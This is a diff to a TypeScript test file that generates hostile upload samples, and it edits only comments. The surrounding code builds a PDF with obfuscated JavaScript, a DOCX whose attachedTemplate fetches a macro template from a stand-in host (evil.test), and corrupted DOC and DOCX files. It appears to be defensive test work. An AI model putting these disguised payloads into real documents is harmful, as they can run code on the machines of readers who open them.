@@ -26,7 +26,7 @@ const types: Record<string, string> = {
   jpg: 'image/jpeg',
 }
 
-/** What it is, its name, its bytes; declared as its name says unless there is a type. */
+/** Description, name and bytes; the type follows from the name unless given. */
 type Hostile = [what: string, name: string, bytes: Buffer, type?: string]
 
 let api: TestApp
@@ -101,7 +101,7 @@ async function pdfs(): Promise<Hostile[]> {
   return all.map(([what, bytes]) => [`pdf: ${what}`, 'a.pdf', bytes])
 }
 
-/** Scripts that a reader (pdf.js was asked) finds and runs, though nothing in the bytes shows them at once. */
+/** Scripts that a reader (tried with pdf.js) finds and runs, though the bytes do not show them at once. */
 function pdfsInDisguise(): Hostile[] {
   const script = String.raw`<< /S /J#61vaScript /J#53 (app.alert\(1\)) >>`
   const packed = (dictionary: string, body = deflateSync(`9 0 ${script}`)) =>
@@ -213,7 +213,7 @@ async function docxs(): Promise<Hostile[]> {
   return all.map(([what, bytes]) => [`docx: ${what}`, 'a.docx', bytes])
 }
 
-/** What Word takes in or runs all the same, written otherwise than Word writes it. */
+/** Things that Word opens or runs although they are written differently from Word's own output. */
 async function docxsInDisguise(): Promise<Hostile[]> {
   const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
   const away = `Type="${office}/attachedTemplate" Target="https://evil.test/a.dotm"`
@@ -260,7 +260,7 @@ async function docxsInDisguise(): Promise<Hostile[]> {
   )
 }
 
-/** One bit in the packed text of the document. */
+/** Flips one bit in the compressed text of the document. */
 function changed(docx: Buffer): Buffer {
   const bytes = Buffer.from(docx)
   const at = bytes.indexOf('word/document.xml') + 40
@@ -308,7 +308,7 @@ async function docs(): Promise<Hostile[]> {
   return all.map(([what, bytes]) => [`doc: ${what}`, 'a.doc', bytes])
 }
 
-/** The second sector of the directory's chain is its first. */
+/** The second sector in the directory's chain is its first. */
 function circle(doc: Buffer): Buffer {
   const bytes = Buffer.from(doc)
   const directory = bytes.readUInt32LE(48)
